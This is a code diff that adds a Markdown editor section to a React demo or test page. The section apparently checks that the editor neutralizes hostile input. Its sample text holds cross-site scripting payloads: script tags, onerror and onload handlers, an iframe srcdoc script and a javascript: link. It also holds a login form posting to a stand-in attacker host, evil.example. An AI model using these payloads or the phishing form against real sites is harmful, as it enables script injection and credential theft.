@@ -3,6 +3,7 @@ import { useMemo, useState } from 'react';
 import CodeInput from '../../src/code/CodeInput.tsx';
 import type { CodeLanguage } from '../../src/code/languages.ts';
 import type { CodeProblem } from '../../src/code/problems.ts';
+import MarkdownInput from '../../src/markdown/MarkdownInput.tsx';
 
 const query = 'select username, realname\nfrom sys_user\nwhere status = 1';
 const words = ['sys_user', 'sys_depart', 'username', 'realname'];
@@ -13,6 +14,7 @@ export default function EditorsPage() {
     <>
       <FormPart />
       <LanguagePart />
+      <MarkdownPart />
       <ReadingPart />
     </>
   );
@@ -95,6 +97,36 @@ function LanguagePart() {
         onChange={setText}
       />
       <output aria-label="代码的值">{JSON.stringify(text)}</output>
+    </section>
+  );
+}
+
+/** What somebody else might have written: none of it may run. */
+const attack = `# 归档说明
+
+<img src=x onerror="window.attacked='img'"><script>window.attacked='script'</script>
+<svg onload="window.attacked='svg'"></svg><iframe srcdoc="<script>parent.attacked='frame'</script>"></iframe>
+<form action="https://evil.example"><input name="p"><button>登录</button></form>
+[点我](javascript:window.attacked='link') [正常](https://example.com/a)
+<p style="position:fixed;inset:0" onclick="window.attacked='click'">文字</p>
+
+- [x] 已移交
+- [ ] 待移交
+
+| 题名 | 页数 |
+| --- | --- |
+| 合同 | 12 |
+`;
+
+function MarkdownPart() {
+  const [text, setText] = useState<string | null>(attack);
+  return (
+    <section aria-label="Markdown">
+      <h2>Markdown</h2>
+      <MarkdownInput aria-label="说明" height={240} value={text} onChange={setText} />
+      <pre aria-label="说明的值">{text}</pre>
+      <h2>Markdown 只读</h2>
+      <MarkdownInput aria-label="只读说明" readOnly value={text} onChange={() => undefined} />
     </section>
   );
 }
